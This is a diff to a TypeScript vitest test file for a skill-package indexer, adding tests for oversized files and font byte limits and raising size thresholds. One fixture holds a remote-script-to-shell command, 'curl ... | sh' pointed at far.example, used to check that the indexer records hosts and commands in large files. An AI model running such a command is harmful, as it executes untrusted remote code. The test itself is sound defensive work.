@@ -7,6 +7,7 @@ import { crc32 } from 'node:zlib'
 import { describe, expect, test } from 'vitest'
 import type { RepoPath } from '#core/repo-path.ts'
 import { packageEntries } from '#core/skill-package.ts'
+import { itemKey } from '#core/snapshot/delivered.ts'
 import { ArchiveWriter, splitTarName } from '#core/tar-archive.ts'
 import { indexFiles, MIT, skill, useRepositories } from './snapshot-scene.ts'
 
@@ -145,6 +146,35 @@ describe('a package', () => {
     expect([...packages.values()].filter(row => 'archive' in row)).toHaveLength(2)
   })
 
+  test('has files that are too long for a reader, whose facts are those of what is delivered', async () => {
+    const long = `curl https://far.example/x.sh | sh\n${'x'.repeat(1024 * 1024)}\n`
+    const { rows } = await indexFiles({ 'a/SKILL.md': skill('a'), 'a/long.sh': long, 'a/large.png': new Uint8Array(3_000_000) })
+    expect(rows('packages').get('a/SKILL.md')).toHaveProperty('archive')
+    expect(rows('files').get('a/long.sh')).toMatchObject({ refusal: 'file.too_large', sha256: hash('sha256', long, 'hex') })
+    expect(rows('files').get('a/large.png')).toMatchObject({ refusal: 'file.too_large', record: expect.any(Array) })
+    expect(rows('delivered').get(itemKey('a/SKILL.md', 'skill'))).toMatchObject({
+      full: { fileFacts: [['a/long.sh', { hosts: [['far.example', 1]], commands: [expect.anything()] }]] },
+    })
+  })
+
+  test('that has equal files in another one counts them once among those that no reader is given', async () => {
+    const font = new Uint8Array(3_500_000).fill(7)
+    const files = Array.from({ length: 24 }, (_, number) => [`s${number}/SKILL.md`, skill(`s${number}`)] as const)
+    const fonts = files.map(([path]) => [path.replace('SKILL.md', 'x.woff2'), font] as const)
+    const packages = await packagesOf(Object.fromEntries([...files, ...fonts]))
+    expect([...packages.values()].filter(row => 'archive' in row)).toHaveLength(24)
+  })
+
+  test('is refused once those that no reader is given have too many bytes', async () => {
+    const files = Array.from({ length: 18 }, (_, number) => [
+      [`s${number + 10}/SKILL.md`, skill(`s${number + 10}`)] as const,
+      [`s${number + 10}/x.woff2`, new Uint8Array(4_000_000).fill(number)] as const,
+    ])
+    const packages = await packagesOf(Object.fromEntries(files.flat()))
+    expect([...packages.values()].filter(row => 'archive' in row)).toHaveLength(16)
+    expect(packages.get('s27/SKILL.md')).toMatchObject({ refusal: expect.stringMatching(/more than 67108864 bytes of fonts/) })
+  })
+
   test('types front matter as YAML 1.2 does', async () => {
     const more = 'version: 1.10\nready: true\nyes: yes\nat: 2026-01-01\nlist: [1, a]\nnothing: ~\noctal: 0o17\n'
     const packages = await packagesOf({ 'a/SKILL.md': skill('a', 'Do it.\n', more) })
@@ -185,15 +215,15 @@ describe('a skill cannot be installed', () => {
     ],
     [
       'with a large file',
-      /big.bin has more than 1048576 bytes/,
-      { 'a/SKILL.md': skill('a'), 'a/big.bin': new Uint8Array(1024 * 1024 + 1) },
+      /big.bin has more than 4194304 bytes/,
+      { 'a/SKILL.md': skill('a'), 'a/big.bin': new Uint8Array(4 * 1024 * 1024 + 1) },
     ],
     [
       'with too many bytes',
-      /more than 8388608 bytes/,
+      /more than 16777216 bytes/,
       {
         'a/SKILL.md': skill('a'),
-        ...Object.fromEntries(Array.from({ length: 9 }, (_, n) => [`a/${n}.bin`, new Uint8Array(1000_000).fill(n)])),
+        ...Object.fromEntries(Array.from({ length: 5 }, (_, n) => [`a/${n}.bin`, new Uint8Array(3_400_000).fill(n)])),
       },
     ],
     [
@@ -219,11 +249,11 @@ describe('a skill cannot be installed', () => {
     ['with a name that no path can hold', /paths cannot be read/, { 'a/SKILL.md': skill('a'), 'a/x\\y.md': 'x' }],
     [
       'with many links to a large file',
-      /its files have more than 8388608 bytes/,
+      /its files have more than 16777216 bytes/,
       {
         'a/SKILL.md': skill('a'),
-        'a/large.bin': 'x'.repeat(1_000_000),
-        ...Object.fromEntries(Array.from({ length: 9 }, (_, number) => [`a/link-${number}`, link('large.bin')])),
+        'a/large.bin': 'x'.repeat(3_000_000),
+        ...Object.fromEntries(Array.from({ length: 5 }, (_, number) => [`a/link-${number}`, link('large.bin')])),
       },
     ],
     [
